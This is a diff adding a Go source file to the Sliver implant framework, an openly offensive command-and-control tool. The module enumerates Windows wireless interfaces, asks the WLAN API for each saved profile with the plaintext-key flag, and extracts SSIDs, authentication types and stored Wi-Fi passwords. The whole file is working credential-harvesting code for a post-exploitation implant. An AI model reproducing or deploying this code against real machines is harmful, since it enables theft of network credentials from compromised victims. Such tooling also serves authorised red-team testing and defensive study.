@@ -0,0 +1,147 @@
+package wifi
+
+/*
+	Sliver Implant Framework
+	Copyright (C) 2020  Bishop Fox
+
+	This program is free software: you can redistribute it and/or modify
+	it under the terms of the GNU General Public License as published by
+	the Free Software Foundation, either version 3 of the License, or
+	(at your option) any later version.
+
+	This program is distributed in the hope that it will be useful,
+	but WITHOUT ANY WARRANTY; without even the implied warranty of
+	MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+	GNU General Public License for more details.
+
+	You should have received a copy of the GNU General Public License
+	along with this program.  If not, see <https://www.gnu.org/licenses/>.
+*/
+
+import (
+	"encoding/xml"
+	"unsafe"
+
+	// {{if .Debug}}
+	"log"
+	// {{end}}
+
+	"github.com/bishopfox/sliver/sliver/syscalls"
+	"golang.org/x/sys/windows"
+)
+
+const (
+	wlanClientVersion = 2 // Vista and later
+)
+
+// wlanProfile - The subset of the WLANProfile XML schema we care about
+type wlanProfile struct {
+	Name       string `xml:"name"`
+	SSIDConfig struct {
+		SSID struct {
+			Name string `xml:"name"`
+		} `xml:"SSID"`
+	} `xml:"SSIDConfig"`
+	MSM struct {
+		Security struct {
+			AuthEncryption struct {
+				Authentication string `xml:"authentication"`
+				Encryption     string `xml:"encryption"`
+			} `xml:"authEncryption"`
+			SharedKey struct {
+				Protected   bool   `xml:"protected"`
+				KeyMaterial string `xml:"keyMaterial"`
+			} `xml:"sharedKey"`
+		} `xml:"security"`
+	} `xml:"MSM"`
+}
+
+// profiles - Profiles are read with the WLAN API, keys are only returned in
+// plaintext to administrators and SYSTEM
+func profiles() ([]Profile, error) {
+	var version uint32
+	var client windows.Handle
+	err := syscalls.WlanOpenHandle(wlanClientVersion, 0, &version, &client)
+	if err != nil {
+		return nil, err
+	}
+	defer syscalls.WlanCloseHandle(client, 0)
+
+	var interfaceList *syscalls.WlanInterfaceInfoList
+	err = syscalls.WlanEnumInterfaces(client, 0, &interfaceList)
+	if err != nil {
+		return nil, err
+	}
+	defer syscalls.WlanFreeMemory(uintptr(unsafe.Pointer(interfaceList)))
+
+	results := []Profile{}
+	interfaces := uintptr(unsafe.Pointer(interfaceList)) + unsafe.Sizeof(*interfaceList)
+	for index := uint32(0); index < interfaceList.NumberOfItems; index++ {
+		iface := (*syscalls.WlanInterfaceInfo)(unsafe.Pointer(interfaces + uintptr(index)*unsafe.Sizeof(syscalls.WlanInterfaceInfo{})))
+		results = append(results, interfaceProfiles(client, iface)...)
+	}
+	if len(results) == 0 {
+		return nil, ErrNoWireless
+	}
+	return results, nil
+}
+
+func interfaceProfiles(client windows.Handle, iface *syscalls.WlanInterfaceInfo) []Profile {
+	ifaceName := windows.UTF16ToString(iface.Description[:])
+	var profileList *syscalls.WlanProfileInfoList
+	err := syscalls.WlanGetProfileList(client, &iface.InterfaceGUID, 0, &profileList)
+	if err != nil {
+		// {{if .Debug}}
+		log.Printf("[wifi] failed to list profiles of %s: %s", ifaceName, err)
+		// {{end}}
+		return nil
+	}
+	defer syscalls.WlanFreeMemory(uintptr(unsafe.Pointer(profileList)))
+
+	results := []Profile{}
+	infos := uintptr(unsafe.Pointer(profileList)) + unsafe.Sizeof(*profileList)
+	for index := uint32(0); index < profileList.NumberOfItems; index++ {
+		info := (*syscalls.WlanProfileInfo)(unsafe.Pointer(infos + uintptr(index)*unsafe.Sizeof(syscalls.WlanProfileInfo{})))
+		name := windows.UTF16ToString(info.ProfileName[:])
+		profile := Profile{Interface: ifaceName, SSID: name}
+		raw, err := profileXML(client, &iface.InterfaceGUID, &info.ProfileName[0])
+		if err != nil {
+			// {{if .Debug}}
+			log.Printf("[wifi] failed to read profile %s: %s", name, err)
+			// {{end}}
+			results = append(results, profile)
+			continue
+		}
+		parsed := &wlanProfile{}
+		err = xml.Unmarshal([]byte(raw), parsed)
+		if err != nil {
+			// {{if .Debug}}
+			log.Printf("[wifi] failed to parse profile %s: %s", name, err)
+			// {{end}}
+			results = append(results, profile)
+			continue
+		}
+		if parsed.SSIDConfig.SSID.Name != "" {
+			profile.SSID = parsed.SSIDConfig.SSID.Name
+		}
+		profile.Authentication = parsed.MSM.Security.AuthEncryption.Authentication
+		profile.Cipher = parsed.MSM.Security.AuthEncryption.Encryption
+		if !parsed.MSM.Security.SharedKey.Protected {
+			profile.Key = parsed.MSM.Security.SharedKey.KeyMaterial
+		}
+		results = append(results, profile)
+	}
+	return results
+}
+
+func profileXML(client windows.Handle, ifaceGUID *windows.GUID, name *uint16) (string, error) {
+	var raw *uint16
+	flags := uint32(syscalls.WLAN_PROFILE_GET_PLAINTEXT_KEY)
+	var access uint32
+	err := syscalls.WlanGetProfile(client, ifaceGUID, name, 0, &raw, &flags, &access)
+	if err != nil {
+		return "", err
+	}
+	defer syscalls.WlanFreeMemory(uintptr(unsafe.Pointer(raw)))
+	return windows.UTF16PtrToString(raw), nil
+}